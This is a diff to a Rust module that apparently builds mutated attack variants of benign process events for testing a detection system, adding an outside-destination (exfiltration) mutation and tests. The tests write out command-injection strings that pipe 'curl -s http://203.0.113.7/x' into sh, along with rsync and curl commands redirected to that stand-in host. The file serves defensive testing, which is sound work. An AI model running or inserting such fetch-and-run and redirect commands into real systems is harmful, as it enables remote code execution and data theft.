@@ -11,6 +11,8 @@
 //! - `chained_command`, `injected_argument`: a shell's `-c` program with a command
 //!   chained after it, or a command substitution in place of its last argument (an
 //!   injection through the program's arguments);
+//! - `other_destination`: the same command with the address it sends to (an IPv4
+//!   address in its command line) replaced by an outside one;
 //! - `dropped_binary`: a binary of the same name run from a temporary directory;
 //! - `download_before`: the same lineage, its shell having first downloaded and run a
 //!   payload (only triage, which sees the session, can tell this one; an exception keys on
@@ -152,6 +154,41 @@ pub fn shell_injections(cmd: &str) -> Vec<(&'static str, String)> {
     out
 }
 
+/// The command line with every IPv4 address in it replaced by an outside one; `None`
+/// when it holds none.
+pub fn other_destination(cmd: &str) -> Option<String> {
+    let mut out = String::with_capacity(cmd.len());
+    let mut changed = false;
+    let mut rest = cmd;
+    while !rest.is_empty() {
+        // The longest run of digits and dots here.
+        let run = rest
+            .find(|c: char| !(c.is_ascii_digit() || c == '.'))
+            .unwrap_or(rest.len());
+        // An address stands on its own: after a blank, `@`, `/`, `=` or `:`, and not
+        // followed by a letter, a digit or `-` (`app-1.2.3.4-x` is a version).
+        let before_ok = out.chars().last().is_none_or(|c| " @/=:".contains(c));
+        let after_ok = rest[run..]
+            .chars()
+            .next()
+            .is_none_or(|c| !(c.is_ascii_alphanumeric() || c == '-'));
+        if run > 0 && before_ok && after_ok && rest[..run].parse::<std::net::Ipv4Addr>().is_ok() {
+            out.push_str("203.0.113.7");
+            changed = true;
+            rest = &rest[run..];
+            continue;
+        }
+        let step = if run > 0 {
+            run
+        } else {
+            rest.chars().next().map_or(1, char::len_utf8)
+        };
+        out.push_str(&rest[..step]);
+        rest = &rest[step..];
+    }
+    (changed && out != cmd).then_some(out)
+}
+
 /// All mutations of the benign events (deduplicated, at most a few per kind).
 pub fn mutations(benign: &[&Record]) -> Vec<Mutation> {
     let mut out: Vec<Mutation> = Vec::new();
@@ -283,6 +320,20 @@ pub fn mutations(benign: &[&Record]) -> Vec<Mutation> {
                 out.extend(b.and_then(|b| b.build(kind, true)));
             }
         }
+        // Another destination: an address in the command line (`rsync ... u@10.0.0.9:/x`,
+        // `curl http://10.0.0.9/...`) replaced by an outside one (exfiltration).
+        if let Some(cmd) = text(ev, "proc.cmdline") {
+            if let Some(o) = other_destination(&cmd) {
+                let b = Builder::new(r).map(|b| {
+                    let args = o
+                        .split_once(' ')
+                        .map(|(_, a)| a.to_string())
+                        .unwrap_or_default();
+                    b.set("proc.cmdline", o).set_if("proc.args", args)
+                });
+                out.extend(b.and_then(|b| b.build("other_destination", true)));
+            }
+        }
         // The same name from a temporary directory.
         if let Some(name) = text(ev, "proc.name") {
             let dropped = format!("/tmp/.cache/{name}");
@@ -407,6 +458,50 @@ mod tests {
             .filter_map(|m| text(&m.record.event, "user.name"))
             .collect();
         assert_eq!(users, vec!["nobody".to_string()]);
+    }
+
+    #[test]
+    fn shell_programs_get_chained_and_injected_commands() {
+        let recs = parse_records(
+            r#"{"evt.type":"execve","proc.name":"sh","proc.exepath":"/usr/bin/dash","proc.cmdline":"sh -c convert /srv/up/a.jpg /srv/th/a.png","proc.pname":"apache2"}"#,
+            "b",
+        )
+        .unwrap();
+        let b: Vec<&Record> = recs.iter().collect();
+        let m = mutations(&b);
+        let cmd = |k: &str| {
+            m.iter()
+                .find(|m| m.kind == k)
+                .and_then(|m| text(&m.record.event, "proc.cmdline"))
+                .unwrap_or_else(|| panic!("{k}: {m:#?}"))
+        };
+        assert_eq!(
+            cmd("chained_command"),
+            "sh -c convert /srv/up/a.jpg /srv/th/a.png; curl -s http://203.0.113.7/x | sh"
+        );
+        assert_eq!(
+            cmd("injected_argument"),
+            "sh -c convert /srv/up/a.jpg \"$(curl -s http://203.0.113.7/x | sh)\""
+        );
+        // Not for a tool's own arguments (no shell parses them), nor for `python -c`.
+        assert!(shell_injections("convert /srv/up/a.jpg /srv/th/a.png").is_empty());
+        assert!(shell_injections("python3 -c print(1)").is_empty());
+    }
+
+    #[test]
+    fn addresses_in_a_command_line_become_an_outside_destination() {
+        assert_eq!(
+            other_destination("rsync -a /data/ backup@10.70.0.20:/srv/backup/").as_deref(),
+            Some("rsync -a /data/ backup@203.0.113.7:/srv/backup/")
+        );
+        assert_eq!(
+            other_destination("curl -s http://10.0.0.9:8080/health").as_deref(),
+            Some("curl -s http://203.0.113.7:8080/health")
+        );
+        // Versions and dates are not addresses.
+        assert_eq!(other_destination("pip install duckdb==1.1.1"), None);
+        assert_eq!(other_destination("tar czf etc-2024.01.05.tgz /etc"), None);
+        assert_eq!(other_destination("app-1.2.3.4-x"), None);
     }
 
     #[test]
